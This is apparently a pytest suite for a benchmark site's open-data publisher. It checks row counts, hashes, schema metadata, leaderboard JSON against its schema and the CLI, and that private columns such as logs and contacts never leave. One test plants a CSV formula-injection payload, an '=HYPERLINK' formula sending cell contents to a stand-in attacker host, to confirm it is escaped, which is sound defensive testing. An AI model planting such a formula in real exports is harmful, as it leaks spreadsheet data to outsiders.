"""Open data (bench.site.publish): what the site publishes is the dataset, complete, checkable and nothing private.

Two datasets: the session's built site (synthetic measured track + the paper's tables, through the whole build)
and a small one of our own with secrets planted in the private columns, published without mkdocs.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import duckdb
import jsonschema
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from bench.dataset import schema, store, synthetic
from bench.dataset.metrics import Metrics
from bench.site import publish as pub
from bench.site.collect import collect

SECRET_LOG = "CANDIDATE-LOG-7f3a9c-should-never-leave"
SECRET_CONTACT = "private-contact-1b2c@example.org"
FORMULA_NAME = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'


def _manifest(site: Path) -> dict[str, Any]:
    return json.loads((site / "data" / "manifest.json").read_text())


def _dataset_count(data_dir: Path, folder: str, track: str) -> int:
    """Rows of `track` in the dataset's own Parquet files, read directly (not through the Metrics API)."""
    files = store.parquet_files(data_dir / folder, *([data_dir / "reported" / folder] if folder == "results" else []))
    if not files:
        return 0
    return duckdb.sql(
        "SELECT count(*) FROM read_parquet($f, union_by_name = true) WHERE track = $t",
        params={"f": [str(f) for f in files], "t": track},
    ).fetchall()[0][0]


@pytest.mark.parametrize("table", [schema.RESULTS, schema.SAMPLES, schema.SUBMISSIONS, schema.REPORTED_SUMMARY])
def test_every_column_is_either_published_or_private(table: pa.Schema) -> None:
    """A new column must be classified: the allow-list decides what leaves the machine."""
    for name in table.names:
        assert (name in schema.PUBLIC_COLUMNS) != (name in schema.PRIVATE_COLUMNS), name
    assert "result_json" in schema.PRIVATE_COLUMNS and "contact" in schema.PRIVATE_COLUMNS
    assert not any("seed" in c or "log" in c for c in schema.PUBLIC_COLUMNS)


def test_published_files_hold_every_row_of_the_dataset(built_site: Any) -> None:
    man = _manifest(built_site.site_dir)
    tracks = {t.track for t in Metrics(built_site.data_dir).tracks()}
    seen_tables = set()
    for f in man["files"]:
        path = built_site.site_dir / f["path"]
        reader = "read_parquet" if f["format"] == "parquet" else "read_csv"
        n = duckdb.sql(f"SELECT count(*) FROM {reader}('{path}')").fetchall()[0][0]
        assert n == f["rows"], f["path"]
        if f["table"] in ("results", "samples"):
            assert f["track"] in tracks
            assert n == _dataset_count(built_site.data_dir, f["table"], f["track"]), f["path"]
            seen_tables.add((f["track"], f["table"]))
        assert f["bytes"] == path.stat().st_size
        assert f["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
    with_rows = {t for t in tracks if _dataset_count(built_site.data_dir, "results", t)}
    assert {(t, "results") for t in with_rows} <= seen_tables  # a track of aggregates only has no rows
    assert "v6e/full/paper-table3" in with_rows
    assert ("cpu/small", "samples") in seen_tables  # the synthetic track has trajectories
    subs = duckdb.sql(f"SELECT count(*) FROM '{built_site.site_dir / 'data/submissions.parquet'}'").fetchall()[0][0]
    assert subs == len(Metrics(built_site.data_dir).submissions())


def test_parquet_files_carry_versions_and_column_descriptions(built_site: Any) -> None:
    path = built_site.site_dir / "data" / "cpu-small" / "results.parquet"
    sch = pq.read_schema(path)
    assert sch.metadata[b"jaxbench.schema_version"] == str(schema.SCHEMA_VERSION).encode()
    assert sch.metadata[b"jaxbench.license"] == schema.DATA_LICENSE.encode()
    assert all(f.metadata and f.metadata[b"description"] for f in sch)
    assert "current" in sch.names and "result_json" not in sch.names


def test_leaderboard_json_follows_its_schema_and_agrees_with_the_cli(built_site: Any) -> None:
    from bench.cli import app

    doc = json.loads((built_site.site_dir / "api" / "leaderboard.json").read_text())
    shipped = json.loads(pub.LEADERBOARD_SCHEMA.read_text())
    jsonschema.validate(doc, shipped)
    assert json.loads((built_site.site_dir / "api" / "leaderboard.schema.json").read_text()) == shipped
    assert doc["schema_version"] == schema.SCHEMA_VERSION
    runner = CliRunner()
    assert {t["track"] for t in doc["tracks"]} == {t.track for t in Metrics(built_site.data_dir).tracks()}
    for t in doc["tracks"]:
        out = runner.invoke(app, ["leaderboard", t["track"], "--json", "--data-dir", str(built_site.data_dir)])
        assert out.exit_code == 0, out.output
        assert json.loads(out.output) == t["rows"], t["track"]
        evaluated = {r["submission"] for r in t["rows"] if r.get("evaluated")}
        assert set(t["provenance_summary"]) == evaluated or t["reported"]


def test_schema_rejects_a_broken_document(built_site: Any) -> None:
    doc = json.loads((built_site.site_dir / "api" / "leaderboard.json").read_text())
    doc["tracks"][0]["rows"][0]["rank"] = "first"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(doc, json.loads(pub.LEADERBOARD_SCHEMA.read_text()))


def test_submission_and_workload_documents(built_site: Any) -> None:
    site, man = built_site.site_dir, _manifest(built_site.site_dir)
    subs = [p for p in man["api"] if p.startswith("api/submissions/")]
    works = [p for p in man["api"] if p.startswith("api/workloads/")]
    assert len(works) >= 50 and len(subs) >= 6
    doc = json.loads((site / pub.submission_api(built_site.xss_submission)).read_text())
    assert doc["metadata"]["name"] == built_site.xss_name  # JSON carries the text as it is; pages escape it
    track = next(t for t in doc["tracks"] if t["track"] == "cpu/small")
    (row,) = track["rows"]  # the key a track's ranking rows have in every document (API version 2)
    assert row["submission"] == built_site.xss_submission and doc["api_version"] == pub.API_VERSION == 2
    assert len(track["results"]) == track["n_workloads"]
    assert {r["p"] for r in track["fast_p"]} == {0.0, 1.0, 1.5, 2.0} and track["history"]
    board = json.loads((site / "api" / "leaderboard.json").read_text())
    assert all("rows" in t and "leaderboard" not in t for t in board["tracks"] + doc["tracks"])
    w = json.loads((site / pub.workload_api("8p_GEMM")).read_text())
    assert w["workload"]["id"] == "8p_GEMM" and w["generated_at"] == doc["generated_at"]
    (cpu,) = [t for t in w["tracks"] if t["track"] == "cpu/small"]
    base = {r.workload: r for r in Metrics(built_site.data_dir).workload_baselines("cpu/small")}["8p_GEMM"]
    assert cpu["baseline_median_ms"] == base.baseline_median_ms and cpu["baseline_rows"] == base.baseline_rows > 1


def test_pages_link_to_their_rows(built_site: Any) -> None:
    site = built_site.site_dir
    index = (site / "index.html").read_text()
    assert 'href="data/cpu-small/results.parquet"' in index and 'href="api/leaderboard.json"' in index
    page = (site / "submissions" / built_site.xss_submission / "index.html").read_text()
    assert f"api/submissions/{built_site.xss_submission}.json" in page
    assert "data/cpu-small/results.csv" in page
    assert "api/workloads/8p_GEMM.json" in (site / "workloads" / "8p_GEMM" / "index.html").read_text()
    data_page = (site / "open-data" / "index.html").read_text()
    for col in ("current", "speedup", "outcome"):
        assert f"<code>{col}</code>" in data_page
    assert schema.DATA_LICENSE in data_page


@pytest.fixture()
def planted(tmp_path: Path) -> tuple[Path, Path]:
    """A small dataset whose private columns hold findable secrets, published without mkdocs."""
    data = tmp_path / "data"
    synthetic.generate(data, n_submissions=2, n_workloads=3, n_samples=4)
    for f in store.parquet_files(data / "results"):
        t = pq.read_table(f)
        t = t.set_column(
            t.schema.get_field_index("result_json"),
            "result_json",
            pa.array([json.dumps({"candidate_log": SECRET_LOG})] * t.num_rows, pa.string()),
        )
        store.write_atomic(t, Path(f))
    for f in store.parquet_files(data / "submissions"):
        t = pq.read_table(f)
        t = t.set_column(t.schema.get_field_index("contact"), "contact", pa.array([SECRET_CONTACT] * t.num_rows))
        t = t.set_column(t.schema.get_field_index("name"), "name", pa.array([FORMULA_NAME] * t.num_rows))
        store.write_atomic(t, Path(f))
    metrics = Metrics(data)
    out = tmp_path / "out"
    pub.publish(metrics, collect(metrics, []), out)
    return data, out


def test_nothing_private_is_published(planted: tuple[Path, Path]) -> None:
    data, out = planted
    n = duckdb.sql(
        f"SELECT count(*) FROM read_parquet('{data}/results/**/*.parquet') WHERE result_json LIKE '%{SECRET_LOG}%'"
    ).fetchall()[0][0]
    assert n > 0
    published = [p for p in out.rglob("*") if p.is_file()]
    assert published
    for p in published:
        blob = p.read_bytes()
        if p.suffix == ".parquet":  # compressed: read it back instead of grepping bytes
            blob = json.dumps(pq.read_table(p).to_pylist(), default=str).encode()
        assert SECRET_LOG.encode() not in blob, p
        assert SECRET_CONTACT.encode() not in blob, p


def test_csv_cells_never_start_a_spreadsheet_formula(planted: tuple[Path, Path]) -> None:
    """A submitter's name "=HYPERLINK(...)" stays data: in CSV it is quoted with an apostrophe, in Parquet kept."""
    _, out = planted
    names = duckdb.sql(f"SELECT DISTINCT name FROM read_csv('{out / 'data/submissions.csv'}')").fetchall()
    assert ("'" + FORMULA_NAME,) in names and (FORMULA_NAME,) not in names
    raw = duckdb.sql(f"SELECT DISTINCT name FROM '{out / 'data/submissions.parquet'}'").fetchall()
    assert (FORMULA_NAME,) in raw
